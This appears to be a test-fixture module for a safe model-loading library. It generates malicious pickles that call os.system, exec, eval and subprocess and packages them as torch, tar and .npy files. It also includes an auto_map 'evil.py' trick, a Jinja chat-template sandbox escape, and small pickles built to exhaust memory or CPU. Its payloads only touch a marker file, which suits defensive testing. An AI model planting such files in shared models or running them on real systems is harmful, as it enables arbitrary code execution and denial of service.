"""Files that create a marker when something executes them, and pickles that take memory or time."""

from __future__ import annotations

import io
import json
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

Write = Callable[[Path], None]  # a file that will be read


def _text(text: str) -> bytes:
    """A short string of protocol 4."""
    return b"\x8c" + bytes([len(text)]) + text.encode()


def pickles(marker: Path) -> dict[str, bytes]:
    """Name of an attack → a pickle that creates `marker` with Python's own unpickler."""
    shell, code = f"touch {marker}", f"open({str(marker)!r}, 'w')"
    quoted = shell.encode()
    return {
        "reduce, protocol 0": b"cposix\nsystem\n(S'" + quoted + b"'\ntR.",
        "reduce, protocol 4": b"\x80\x04" + _text("posix") + _text("system") + b"\x93"
        + _text(shell) + b"\x85R.",
        "a class of old": b"(S'" + quoted + b"'\nios\nsystem\n.",
        "an object of old": b"(cos\nsystem\nS'" + quoted + b"'\no.",
        "exec": b"\x80\x02cbuiltins\nexec\nX" + struct.pack("<I", len(code)) + code.encode()
        + b"\x85R.",
        "eval": b"\x80\x02c__builtin__\neval\nX" + struct.pack("<I", len(code)) + code.encode()
        + b"\x85R.",
        "a dotted name": b"\x80\x04" + _text("shutil") + _text("os.system") + b"\x93"
        + _text(shell) + b"\x85R.",
        "a module of torch": b"\x80\x04" + _text("torch.serialization") + _text("os.system")
        + b"\x93" + _text(shell) + b"\x85R.",
        "subprocess": b"\x80\x04" + _text("subprocess") + _text("getoutput") + b"\x93"
        + _text(shell) + b"\x85R.",
        "inside a dict": b"\x80\x02}X\x01\x00\x00\x00acposix\nsystem\nX"
        + struct.pack("<I", len(shell)) + quoted + b"\x85Rs.",
        "before the end": b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(shell)) + quoted
        + b"\x85R0}.",
        "a partial call": b"\x80\x04" + _text("functools") + _text("partial") + b"\x93"
        + _text("os") + _text("system") + b"\x93" + _text(shell) + b"\x86R)R.",
    }  # fmt: skip


def write_archive(path: Path, data: bytes) -> None:
    """A torch.save file with `data` as its pickle."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", data)
        archive.writestr("archive/byteorder", b"little")
        archive.writestr("archive/version", b"3\n")


def write_legacy(path: Path, data: bytes) -> None:
    """A file of torch before 1.6 with `data` as its pickle."""
    machine = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
    head = [0x1950A86A20F9469CFC6C, 1001, machine]
    path.write_bytes(b"".join(pickle.dumps(each, 2) for each in head) + data + pickle.dumps([], 2))


def write_nested(path: Path, data: bytes) -> None:
    """A torch.save file whose pickle is another one."""
    inner = io.BytesIO()
    torch.save({"a": torch.ones(2)}, inner)
    write_archive(path, data)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("archive/data/0", inner.getvalue())


def write_tar(path: Path, data: bytes) -> None:
    """A file of torch before 0.2, a tar of pickles."""
    with tarfile.open(path, "w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))


def write_numpy(path: Path, data: bytes) -> None:
    """A .npy file of Python objects."""
    said = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    path.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(said)) + said + data)


def write_python(folder: Path, marker: Path) -> None:
    """Let config.json and the tokenizer name Python code of the folder, which creates `marker`."""
    (folder / "evil.py").write_text(f"open({str(marker)!r}, 'w')\nclass Evil: pass\n")
    names = ("AutoConfig", "AutoModelForCausalLM", "AutoTokenizer", "AutoModel")
    for file, said in (
        ("config.json", {"auto_map": dict.fromkeys(names, "evil.Evil"), "model_type": "evil"}),
        ("tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["evil.Evil", "evil.Evil"]},
                                   "tokenizer_class": "Evil"}),
    ):  # fmt: skip
        path = folder / file
        content = json.loads(path.read_text()) if path.is_file() else {}
        path.write_text(json.dumps({**content, **said}))


def template(marker: Path) -> str:
    """A chat template that leaves the sandbox, if there is none."""
    found = "".__class__.__name__
    return (
        "{{ cycler.__init__.__globals__.os.system('touch MARKER') }}"
        "{% for c in ''.__class__.__mro__[1].__subclasses__() %}"
        "{% if c.__init__.__globals__ is defined and 'os' in c.__init__.__globals__ %}"
        "{{ c.__init__.__globals__['os'].system('touch MARKER') }}{% endif %}{% endfor %}"
    ).replace("MARKER", str(marker)) + f"{{# {found} #}}"


def _copies(count: int) -> bytes:
    """A list of `count` items that is copied `count` times."""
    items = b"\x80\x02](" + b"N" * count + b"eq\x000"
    return items + b"](" + b"cbuiltins\nlist\nh\x00\x85R" * count + b"e."


def _key(depth: int) -> bytes:
    """A tuple as a key whose hash takes 2**depth steps."""
    return b"\x80\x02}N" + b"q\x00h\x00\x86" * depth + b"Ns."


# A tuple whose text has 2**40 letters.
LONG_TEXT = b")" + b"2\x86" * 40

# Each is small, and would take gigabytes or minutes.
BOMBS: dict[str, bytes] = {
    "a memo of four billion": b"\x80\x02Nr\xff\xff\xff\xff.",
    "a memo of many": b"\x80\x02" + b"".join(
        b"Nr" + struct.pack("<I", 1 << n) for n in range(32)) + b".",
    "text of 2**40 bytes": b"\x80\x04\x8d" + struct.pack("<Q", 1 << 40) + b"a.",
    "bytes of 2**40": b"\x80\x04\x8e" + struct.pack("<Q", 1 << 40) + b"a.",
    "an array of 2**40 bytes": b"\x80\x05\x96" + struct.pack("<Q", 1 << 40) + b"a.",
    "a frame of 2**40 bytes": b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + b"\x96"
    + struct.pack("<Q", 1 << 40) + b"a.",
    "a number of 2**30 bytes": b"\x80\x02\x8b" + struct.pack("<i", 1 << 30) + b"a.",
    "a number of a million digits": b"I" + b"9" * 1_000_000 + b"\n.",
    "a call with a million digits": b"\x80\x02cbuiltins\nint\nX" + struct.pack("<I", 1_000_000)
    + b"9" * 1_000_000 + b"\x85R.",
    "a list copied over and over": _copies(30_000),
    "a key whose hash takes for ever": _key(80),
    "a tuple nested deeply as a key": b"\x80\x02}N" + b"\x85" * 200_000 + b"Ns.",
    "keys with one hash": b"\x80\x02}(" + b"".join(
        b"\x8a\x0a" + (n * (2**61 - 1)).to_bytes(10, "little") + b"N" for n in range(60_000)
    ) + b"u.",
    "marks": b"(" * 200_000,
    "the text of a persistent id": b"\x80\x02" + LONG_TEXT + b"Q.",
    "the text of a storage type": b"\x80\x02(X\x07\x00\x00\x00storage" + LONG_TEXT
    + b"X\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x01tQ.",
    "the text of a class": b"\x80\x02" + LONG_TEXT + b")\x81.",
    "the text of a shape": b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n(NK\x00" + LONG_TEXT
    + b")\x89NtR.",
    "a list nested deeply": b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b".",
}  # fmt: skip
